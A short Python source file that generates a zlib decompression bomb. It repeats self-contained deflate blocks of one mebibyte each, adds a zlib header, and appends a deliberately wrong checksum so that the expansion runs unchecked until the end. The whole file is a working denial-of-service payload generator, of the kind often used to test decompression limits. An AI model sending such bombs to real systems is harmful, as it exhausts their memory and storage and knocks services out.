"""Deflated data (RFC 1951) that grows without measure, made without ever holding what it grows to."""

import zlib

MIB = 1 << 20


def blocks(piece: bytes, count: int) -> bytes:
    """`piece` that many times, in blocks that do not refer back: they can be repeated as they are."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    return (deflate.compress(piece) + deflate.flush(zlib.Z_FULL_FLUSH)) * count


END = b"\x03\x00"


def zlib_bomb(mebibytes: int, letter: bytes = b" ") -> bytes:
    """A stream of zlib's format (RFC 1950); its check sum is wrong, which is found out only at its end."""
    return b"\x78\x9c" + blocks(letter * MIB, mebibytes) + END + bytes(4)
